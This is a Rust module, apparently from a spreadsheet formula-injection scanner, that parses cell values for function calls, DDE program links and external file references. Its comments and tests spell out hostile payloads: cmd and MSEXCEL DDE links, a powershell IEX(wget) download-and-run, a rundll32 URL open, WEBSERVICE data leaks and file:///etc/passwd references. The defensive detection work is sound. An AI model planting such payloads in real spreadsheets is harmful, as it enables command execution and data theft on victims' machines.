//! What a formula is made of: the functions it calls, the programs it links to, the files it takes values from.

/// The parts of a formula that reach beyond the sheet.
#[derive(Debug, Clone, Default, PartialEq, Eq, Hash)]
pub struct Parts {
    /// Functions, in order.
    pub calls: Vec<Call>,
    /// Links to other programs: `cmd|'/C calc'!A0`.
    pub links: Vec<Link>,
    /// Files named in quotes before a cell: `'\\host\[x.xls]Sheet'!A1`, `'file:///etc/passwd'#$x.A1`.
    pub files: Vec<String>,
}

/// A call of a function.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct Call {
    /// Name in capitals, without the prefix that writers give to newer functions.
    pub name: String,
    /// Texts among everything behind it.
    pub texts: Vec<String>,
    /// Whether its text is put together or taken from other cells.
    pub computed: bool,
}

/// A link by which a spreadsheet starts or asks another program.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct Link {
    /// The program.
    pub program: String,
    /// What it is asked for.
    pub topic: String,
}

/// Parts of one kind that are kept, and bytes of a text.
const MOST: usize = 16;
const LONGEST: usize = 512;

#[derive(Debug, PartialEq)]
enum Token {
    Name(String),
    Text(String),
    Quoted(String),
    Sign(char),
    Space,
}

/// The sign that makes a value a formula, in either width.
pub(super) fn begins(value: &str) -> Option<char> {
    value.chars().next().and_then(|first| match first {
        '=' | '＝' => Some('='),
        '+' | '＋' | '-' | '－' | '@' | '＠' => Some('+'),
        _ => None,
    })
}

/// The parts of a value that begins with such a sign.
pub(super) fn parts(value: &str) -> Parts {
    let strict = begins(value) != Some('=');
    let tokens = tokens(value);
    let mut parts = Parts::default();
    for (at, token) in tokens.iter().enumerate() {
        let rest = tokens.get(at.saturating_add(1)..).unwrap_or_default();
        match token {
            Token::Name(name) | Token::Quoted(name) if rest.first() == Some(&Token::Sign('|')) => {
                let topic = topic(rest.get(1..).unwrap_or_default(), strict);
                if let Some(topic) = topic.filter(|_| parts.links.len() < MOST) {
                    parts.links.push(Link { program: name.clone(), topic });
                }
            }
            Token::Name(name) if parts.calls.len() < MOST => {
                let spaced = rest.first() == Some(&Token::Space);
                let opens = rest.get(usize::from(spaced)) == Some(&Token::Sign('('));
                // Prose that begins with a dash has words before brackets, too.
                if opens && !(spaced && strict) {
                    parts.calls.push(call(name, rest));
                }
            }
            Token::Quoted(path)
                if matches!(rest.first(), Some(Token::Sign('!' | '#')))
                    && parts.files.len() < MOST
                    && path.contains(['\\', '/', '[']) =>
            {
                parts.files.push(path.clone());
            }
            _ => {}
        }
    }
    parts
}

/// What a program is asked for, if this is a link: a quoted topic, or anything up to the mark before its item. Without the mark a
/// quoted word is one only in what can be nothing but a formula.
fn topic(rest: &[Token], strict: bool) -> Option<String> {
    let first = rest.iter().find(|token| **token != Token::Space)?;
    let marked = rest.iter().take(32).position(|token| *token == Token::Sign('!'));
    if let Token::Quoted(topic) = first
        && (marked.is_some() || !strict)
    {
        return Some(topic.clone());
    }
    let marked = marked?;
    let words = rest.get(..marked)?.iter().map(|token| match token {
        Token::Name(word) | Token::Text(word) | Token::Quoted(word) => word.clone(),
        Token::Sign(sign) => sign.to_string(),
        Token::Space => " ".to_owned(),
    });
    Some(words.collect())
}

fn call(name: &str, rest: &[Token]) -> Call {
    let name = name.to_ascii_uppercase();
    let name = name.trim_start_matches("_XLFN.").trim_start_matches("_XLWS.").to_owned();
    let texts = rest.iter().filter_map(|token| match token {
        Token::Text(text) | Token::Quoted(text) => Some(text.clone()),
        _ => None,
    });
    let joins = rest.contains(&Token::Sign('&'));
    let refers = rest.iter().any(|token| matches!(token, Token::Name(name) if is_cell(name)));
    let combines = rest.iter().any(|token| match token {
        Token::Name(name) => {
            matches!(
                name.to_ascii_uppercase().as_str(),
                "CONCATENATE" | "CONCAT" | "TEXTJOIN" | "JOIN" | "CHAR"
            )
        }
        _ => false,
    });
    Call { name, texts: texts.take(MOST).collect(), computed: joins || refers || combines }
}

/// `A1`, `$B$20`, `A1:C3`.
fn is_cell(name: &str) -> bool {
    let plain = name.replace('$', "");
    let letters = plain.bytes().take_while(u8::is_ascii_alphabetic).count();
    let digits = plain.get(letters..).unwrap_or_default();
    (1..=3).contains(&letters) && !digits.is_empty() && digits.bytes().all(|byte| byte.is_ascii_digit())
}

fn tokens(value: &str) -> Vec<Token> {
    let mut tokens = Vec::new();
    let mut rest = value;
    while let Some(first) = rest.chars().next() {
        let (token, len) = match first {
            '"' => quoted(rest, '"', Token::Text),
            '\'' => quoted(rest, '\'', Token::Quoted),
            c if c.is_whitespace() => {
                let len = rest.len().saturating_sub(rest.trim_start().len());
                (Token::Space, len)
            }
            c if is_word(c) => {
                let len = rest.find(|c| !is_word(c)).unwrap_or(rest.len());
                (Token::Name(rest.get(..len).unwrap_or_default().to_owned()), len)
            }
            c => (Token::Sign(c), c.len_utf8()),
        };
        tokens.push(token);
        rest = rest.get(len..).unwrap_or_default();
    }
    tokens
}

fn is_word(c: char) -> bool {
    c.is_alphanumeric() || matches!(c, '_' | '.' | '$')
}

/// What stands in quotes, where a quote is doubled; quotes that nothing closes go to the end.
fn quoted(rest: &str, quote: char, of: fn(String) -> Token) -> (Token, usize) {
    let mut text = String::new();
    let mut chars = rest.char_indices().skip(1).peekable();
    while let Some((at, c)) = chars.next() {
        if c == quote && chars.next_if(|(_, next)| *next == quote).is_none() {
            return (of(text), at.saturating_add(1));
        }
        if text.len() < LONGEST {
            text.push(c);
        }
    }
    (of(text), rest.len())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn links_to_programs_are_found_in_every_spelling() {
        for (value, program) in [
            ("=cmd|'/C calc'!A0", "cmd"),
            ("+cmd|' /C calc'!A0", "cmd"),
            ("-2+3+cmd|' /C calc'!A0", "cmd"),
            ("@SUM(1+9)*cmd|' /C calc'!A0", "cmd"),
            ("=10+20+cmd|'/C powershell IEX(wget http://x)'!A0", "cmd"),
            ("=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''", "MSEXCEL"),
            ("=rundll32|'URL.dll,OpenURL calc.exe'!A", "rundll32"),
            ("=cmd|notepad!A1", "cmd"),
            ("=  C m D|'/C calc", "D"),
            ("＝cmd|'/C calc'!A0", "cmd"),
        ] {
            let found = parts(value);
            assert_eq!(found.links.first().map(|link| link.program.as_str()), Some(program), "{value}");
        }
        for value in ["=a|b", "-a | b | c", "=A1", "-5", "+1 555 0100", "@handle", "=1+2", "-x|y", "-x|'y'"] {
            assert_eq!(parts(value).links, [], "{value}");
        }
    }

    #[test]
    fn calls_say_their_texts_and_whether_they_are_put_together() {
        let found = parts("=_xlfn.WEBSERVICE(\"http://x/?q=\"&A1)");
        assert_eq!(found.calls[0].name, "WEBSERVICE");
        assert_eq!(found.calls[0].texts, ["http://x/?q="]);
        assert!(found.calls[0].computed);
        let plain = parts("=HYPERLINK(\"http://x\",\"say \"\"yes\"\"\")");
        assert_eq!(plain.calls[0].texts, ["http://x", "say \"yes\""]);
        assert!(!plain.calls[0].computed);
        assert_eq!(parts("- image (png)").calls, []);
        assert_eq!(parts("=IMAGE (1)").calls.len(), 1);
    }

    #[test]
    fn files_before_cells_are_found() {
        assert_eq!(parts("='\\\\host\\share\\[x.xls]S'!A1").files, ["\\\\host\\share\\[x.xls]S"]);
        assert_eq!(parts("='file:///etc/passwd'#$passwd.A1").files, ["file:///etc/passwd"]);
        assert_eq!(parts("='My sheet'!A1"), Parts::default());
    }
}
